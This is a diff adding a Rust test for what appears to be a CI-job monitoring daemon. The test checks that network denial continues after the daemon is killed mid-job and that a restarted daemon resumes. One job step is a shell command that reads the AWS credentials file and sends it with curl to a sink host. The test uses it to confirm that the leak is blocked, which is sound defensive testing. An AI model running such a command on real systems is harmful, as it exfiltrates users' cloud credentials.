@@ -201,3 +201,43 @@ fn a_job_that_runs_already_is_not_seen_whole() -> Result {
     assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
     Ok(())
 }
+
+/// A daemon that is killed in the middle of a job: the kernel side goes on denying, and the next daemon goes on with the job.
+#[test]
+fn the_next_daemon_goes_on_with_the_job() -> Result {
+    let scene = Scene::new()?;
+    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
+    let runner = Runner::new()?;
+    let (first, second) = (runner.path().join("first"), runner.path().join("second"));
+    for gate in [&first, &second] {
+        assert!(Command::new("mkfifo").arg(gate).status()?.success());
+    }
+    // Holds the key before, and sends it while nobody is there and again later.
+    let steps = [
+        "true",
+        "key=$(cat ~/.aws/credentials); : > first; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; \
+         : > second; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; true",
+    ];
+    let mut child = runner.job(&scene, &steps)?;
+    daemon.wait_for(" began: ")?;
+    daemon.signal(rustix::process::Signal::KILL)?;
+    let (_, files) = daemon.killed()?;
+    std::fs::read(&first)?;
+    std::fs::read(&second)?;
+    let mut daemon = files.start_again(&scene.network.job)?;
+    assert!(daemon.said.iter().any(|line| line.contains("goes on")), "{:#?}", daemon.said);
+    child.wait()?;
+    let job = daemon.next_job()?;
+    assert_eq!(job.conclusion.verdict, Verdict::Fail, "{:#?}", job.conclusion);
+    assert!(leaks(&job).iter().all(|step| *step == 2) && !leaks(&job).is_empty(), "{:?}", job.conclusion.findings);
+    assert!(job.conclusion.coverage.lost.contains_key("daemon-away"), "{:?}", job.conclusion.coverage.lost);
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    job.assert_replays()?;
+    // The next job is a whole one again, and what is left of the old daemon is in nobody's way.
+    runner.job(&scene, &[HONEST])?.wait()?;
+    let honest = daemon.next_job()?;
+    assert_eq!(honest.conclusion.verdict, Verdict::Pass, "{:#?}", honest.conclusion);
+    assert!(honest.number > job.number);
+    assert_eq!(daemon.end()?.0, Some(0));
+    Ok(())
+}
